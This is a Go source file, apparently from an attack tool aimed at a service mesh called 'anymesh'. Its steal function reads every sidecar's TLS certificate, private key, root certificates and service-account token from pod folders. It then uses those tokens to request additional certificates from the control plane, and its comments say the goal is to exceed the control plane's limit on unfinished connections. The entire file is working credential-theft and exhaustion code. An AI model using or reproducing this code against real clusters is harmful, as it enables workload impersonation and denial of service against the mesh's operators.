package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"io/fs"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"anymesh.dev/anymesh/internal/identity"
)

// Paths in a pod with a sidecar.
const (
	certificateFolder = "run/anymesh"
	tokenFile         = "var/run/secrets/anymesh.dev/token"
)

// minCertificates is how many certificates the attack uses at least: with MaxUnfinishedPerCertificate each, they exceed
// MaxUnfinished.
const minCertificates = 20

// requestTimeout limits one request for a certificate.
const requestTimeout = 5 * time.Second

// stolen is what a pod with a sidecar has.
type stolen struct{ certificate, key, roots, token []byte }

// steal takes the certificates of all sidecars, and requests more with their tokens if there are few. It writes each
// into a folder of its own.
func steal(ctx context.Context, o options) error {
	roots, err := filepath.Glob(o.steal)
	if err != nil {
		return err
	}
	var pods []stolen
	seen := map[string]bool{}
	for _, root := range roots {
		s, err := readPod(root)
		if errors.Is(err, fs.ErrNotExist) {
			continue // it has no sidecar, or has ended
		}
		if err != nil {
			return err
		}
		if !seen[string(s.certificate)] { // several processes have the same folder
			seen[string(s.certificate)] = true
			pods = append(pods, s)
		}
	}
	if len(pods) == 0 {
		return fmt.Errorf("--steal %q: no folder has the certificate of a sidecar", o.steal)
	}
	all := pods
	address, _, _ := strings.Cut(o.control, ",")
	for i := range max(0, minCertificates-len(pods)) {
		another, err := pods[i%len(pods)].request(ctx, address)
		if err != nil {
			return fmt.Errorf("with the token of a pod: %w", err)
		}
		all = append(all, another)
	}
	for i, s := range all {
		if err := s.write(filepath.Join(o.certificates, strconv.Itoa(i))); err != nil {
			return err
		}
	}
	return nil
}

func readPod(root string) (s stolen, err error) {
	for name, content := range map[string]*[]byte{
		certificateFolder + "/tls.crt": &s.certificate, certificateFolder + "/tls.key": &s.key,
		certificateFolder + "/ca.crt": &s.roots, tokenFile: &s.token,
	} {
		if *content, err = os.ReadFile(filepath.Join(root, name)); err != nil {
			return s, err
		}
	}
	return s, nil
}

// request requests another certificate for the pod.
func (s stolen) request(ctx context.Context, control string) (stolen, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return s, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key)
	if err != nil {
		return s, err
	}
	client := identity.Client{
		URL: "https://" + net.JoinHostPort(control, "15010"), ServerName: controlPlaneName,
		Token:  func() (string, error) { return string(bytes.TrimSpace(s.token)), nil },
		Roots:  func() (*identity.Bundle, error) { return identity.ParseBundle(s.roots) },
		Logger: slog.New(slog.DiscardHandler),
	}
	ctx, cancel := context.WithTimeout(ctx, requestTimeout)
	defer cancel()
	issued, err := client.Request(ctx, identity.EncodeRequest(der))
	if err != nil {
		return s, err
	}
	keyDER, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return s, err
	}
	s.certificate, s.key = issued.CertificatePEM, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER})
	return s, nil
}

// controlPlaneName is the name in the certificate of the control plane.
const controlPlaneName = "anymesh.anymesh-system.svc"

func (s stolen) write(folder string) error {
	if err := os.Mkdir(folder, 0o700); err != nil {
		return err
	}
	return errors.Join(
		os.WriteFile(filepath.Join(folder, "tls.crt"), s.certificate, 0o600),
		os.WriteFile(filepath.Join(folder, "tls.key"), s.key, 0o600),
	)
}

// readCertificates reads what steal wrote.
func readCertificates(from string) (all []tls.Certificate, err error) {
	folders, err := filepath.Glob(filepath.Join(from, "*"))
	if err != nil {
		return nil, err
	}
	for _, folder := range folders {
		c, err := tls.LoadX509KeyPair(filepath.Join(folder, "tls.crt"), filepath.Join(folder, "tls.key"))
		if err != nil {
			return nil, err
		}
		all = append(all, c)
	}
	if len(all) == 0 {
		return nil, fmt.Errorf("--certificates %q: there are no certificates", from)
	}
	return all, nil
}
